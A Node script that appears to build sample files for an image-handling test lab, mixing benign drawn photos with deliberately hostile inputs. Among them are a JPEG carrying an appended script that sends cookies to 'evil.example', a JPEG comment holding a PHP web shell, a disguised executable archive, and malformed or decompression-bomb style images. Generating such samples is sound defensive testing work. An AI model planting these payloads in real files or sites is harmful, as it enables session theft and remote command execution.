/*
 * Makes the files that are no fixtures: node examples/laboratory/samples/make.mjs writes files/. Nothing here comes from
 * elsewhere.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { be16, join } from '../../../fixtures/make/bytes.mjs'
import { makeExif } from '../../../fixtures/make/exif.mjs'
import { makeGif } from '../../../fixtures/make/gif.mjs'
import { makeSelfReference } from '../../../fixtures/make/hostile/gif.mjs'
import { makeHugeOrientation } from '../../../fixtures/make/hostile/jpeg.mjs'
import { makeTinyWebp } from '../../../fixtures/make/hostile/others.mjs'
import { makeInflatingText } from '../../../fixtures/make/hostile/png.mjs'
import { addExif, makeJpeg } from '../../../fixtures/make/jpeg.mjs'
import { makePng } from '../../../fixtures/make/png.mjs'
import { drawScene, storeTurned } from '../../../fixtures/make/scene.mjs'
import { pngChunk } from '../../../testkit/images/png.mjs'
import { drawCoast } from './coast.mjs'
import { drawScreen, drawSluice } from './drawings.mjs'

const files = new URL('files/', import.meta.url)

/** @param {number} orientation @param {string} takenAt */
const phone = (orientation, takenAt) =>
  makeExif(orientation, {
    maker: 'Nobody',
    model: 'Nobody Phone 9',
    takenAt,
    // On the Black Sea.
    north: [43, 1, 12, 1, 3084, 100],
    east: [30, 1, 7, 1, 1212, 100],
  })

/** @param {Uint8Array} jpeg @param {string} text in a comment segment */
const withComment = (jpeg, text) =>
  join(jpeg.subarray(0, 2), [0xff, 0xfe], be16(text.length + 2), text, jpeg.subarray(2))

/** One stored file of a ZIP archive. @param {string} name @param {string} text */
function archiveOf(name, text) {
  const le = (/** @type {number} */ value, /** @type {number} */ bytes) =>
    Array.from({ length: bytes }, (_, at) => (value >>> (8 * at)) & 255)
  return join(
    'PK\x03\x04',
    le(10, 2),
    le(0, 8),
    le(0, 4),
    le(text.length, 4),
    le(text.length, 4),
    le(name.length, 2),
    le(0, 2),
    name,
    text,
  )
}

/** @param {import('../../../fixtures/make/scene.mjs').Picture} picture */
function pngOf({ width, height, data }) {
  /** @type {Map<number, number>} */
  const palette = new Map()
  const rgb = (/** @type {number} */ at) =>
    ((data[at] ?? 0) << 16) | ((data[at + 1] ?? 0) << 8) | (data[at + 2] ?? 0)
  for (let at = 0; at < data.length; at += 4) if (!palette.has(rgb(at))) palette.set(rgb(at), palette.size)
  const colours = [...palette.keys()].flatMap(colour => [colour >> 16, (colour >> 8) & 255, colour & 255])
  return makePng({
    width,
    height,
    colour: 3,
    depth: 8,
    chunks: [
      pngChunk('PLTE', colours),
      pngChunk('tEXt', new TextEncoder().encode('Software\0Screenshot 4.1 of an unlucky person')),
    ],
    samplesAt: (x, y) => [palette.get(rgb((y * width + x) * 4)) ?? 0],
  })
}

const scene = await makeJpeg(drawScene(91, 240, 180))
const coast = storeTurned(drawCoast(1840, 1380), 3)
/** @type {Readonly<Record<string, Uint8Array>>} */
const made = {
  'IMG_2043.jpg': join(
    addExif(await makeJpeg(coast, { quality: 62, baseline: true }), phone(3, '2026:08:14 19:03:27')),
    "<script>fetch('//evil.example/'+document.cookie)</script>",
  ),
  'IMG_2044.jpg': addExif(
    await makeJpeg(storeTurned(drawCoast(600, 800), 6), { quality: 60, baseline: true }),
    phone(6, '2026:08:14 19:05:02'),
  ),
  'screenshot.png': pngOf(drawScreen(640, 420)),
  'sluice.gif': makeGif(drawSluice(12), { delayMs: 110, colours: 24 }),
  'no-end.jpg': scene.subarray(0, -2),
  'invoice.jpg': join(scene, archiveOf('invoice.exe', 'MZ This program cannot be run in DOS mode')),
  'avatar.jpg': withComment(scene, "<?php system($_GET['c']); ?>"),
  'loop.gif': makeSelfReference(),
  'tiny.webp': makeTinyWebp(),
  'exif.jpg': makeHugeOrientation(scene),
  'text.png': makeInflatingText(8),
}

rmSync(files, { recursive: true, force: true })
mkdirSync(files, { recursive: true })
for (const [name, bytes] of Object.entries(made)) {
  writeFileSync(new URL(name, files), bytes)
  console.log(`${name} ${bytes.length}`)
}
